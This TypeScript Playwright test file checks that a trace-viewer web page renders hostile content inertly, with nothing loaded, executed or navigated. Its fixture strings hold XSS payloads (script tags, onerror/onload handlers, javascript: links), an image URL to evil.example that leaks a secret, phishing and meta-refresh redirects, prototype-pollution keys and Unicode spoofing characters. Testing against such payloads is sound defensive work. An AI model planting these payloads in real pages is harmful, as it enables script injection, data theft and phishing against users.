import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildPage } from '../../scripts/page.ts';
import type { Trace } from '../../src/domain/trace.ts';
import { launch, open, press } from './chromium.ts';
import { openRepository } from './repository.ts';

let browser: Browser;
let html: string;

beforeAll(async () => {
  html = await buildPage();
  browser = await launch();
});
afterAll(() => browser.close());

const attack = [
  'Sure!\n```\n````\n</code></pre></details>\n<img src="https://evil.example/p.png?d=SECRET">',
  '![x](https://evil.example/c?d=SECRET)\n[click to approve][1]\n\n[1]: https://evil.example/phish',
  '<script>alert(1)</script>\n| a | b |\n|-|-|\n<!-- unclosed comment',
  'https://evil.example/autolink www.evil.example [go](javascript:alert(2))',
  '</script><script>alert(3)</script><svg onload=alert(4)><style>@import "https://evil.example"</style>',
  '<iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '\u001b[2J\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u202Egnp.exe\u2066 \u200B\u0000\u0085\u{E0041}',
  `Z${'\u0301'.repeat(400)}`,
].join('\n\n');

const hostile: Trace = {
  id: `<img src=x onerror=alert(5)>\u202E${'x'.repeat(50)}`,
  messages: [
    { role: 'user', content: attack },
    { role: `<b onclick=alert(6)>${attack}`, content: attack },
    {
      role: 'assistant',
      content: { __proto__: attack, [attack]: attack },
      tool_calls: [{ id: '1', name: attack, arguments: attack, result: [{ [attack]: attack }] }],
    },
    { role: 'tool', tool_call_id: '1', content: JSON.stringify([{ a: attack }, { a: attack }]) },
  ],
  output: attack,
  documents: [{ id: attack, text: attack }],
  error: attack,
  metadata: { channel: '<img src=https://evil.example>', [attack]: 'x', scores: attack },
  source: { format: attack, id: attack, url: 'https://evil.example' },
};

const note = {
  verdict: 'fail' as const,
  note: attack,
  by: 'alice',
  at: '2026-11-24T09:00:00.000Z',
};

test('hostile content runs nothing, fetches nothing, and leads nowhere', async () => {
  const name = '<img src=https://evil.example onerror=alert(7)>';
  const definition = JSON.stringify(attack.replaceAll(/[^\n -~]/g, ''));
  const server = await openRepository({
    page: html,
    traces: [hostile],
    notes: [{ trace: hostile.id, ...note, modes: ['a'] }],
    modes: {
      a: `name: ${JSON.stringify(name)}\ndefinition: ${definition}\nopinion: true\nevals: []\n`,
    },
  });
  const context = await browser.newContext();
  const { page, alarms, strangers } = await open(context, server.url);
  for (let round = 0; round < 4; round += 1)
    await page.evaluate(
      `document.querySelectorAll('details').forEach((each) => (each.open = true)); new Promise((done) => setTimeout(done, 50))`,
    );
  const shown = (): Promise<number> =>
    page
      .locator('img, a, iframe, svg, embed, object, form[action], meta[http-equiv], #page script')
      .count();
  expect(await shown()).toBe(0);
  const text = await page.locator('main').innerText();
  expect(text).toContain('<script>alert(1)</script>');
  expect(text).toContain(String.raw`\x1b`);
  expect(text).toContain(String.raw`\u{202e}`);
  const whole = (await page.textContent('#page')) ?? '';
  expect(whole.match(/(?![\t\n])\p{Cc}|[\u200b\u202a-\u202e\u2066-\u2069\u{e0041}]/u)).toBeNull();
  await press(page, 'g');
  await page.click('text=all notes');
  await page.waitForSelector('.card');
  await page.click('.modes .name');
  expect(await shown()).toBe(0);
  expect([alarms, strangers]).toEqual([[], []]);
  expect(new URL(page.url()).origin).toBe(new URL(server.url).origin);
  await context.close();
  await server.close();
});

test('the page itself names no other host', () => {
  const page = html.replaceAll(/https?:\/\/www\.w3\.org\/[\w/]+/g, '');
  expect(page).not.toMatch(/https?:\/\//);
  expect(page).not.toMatch(/\bsrc=|@import|url\(/);
  expect(readFileSync('src/look/page/text.tsx', 'utf8')).not.toMatch(/innerHTML/i);
});
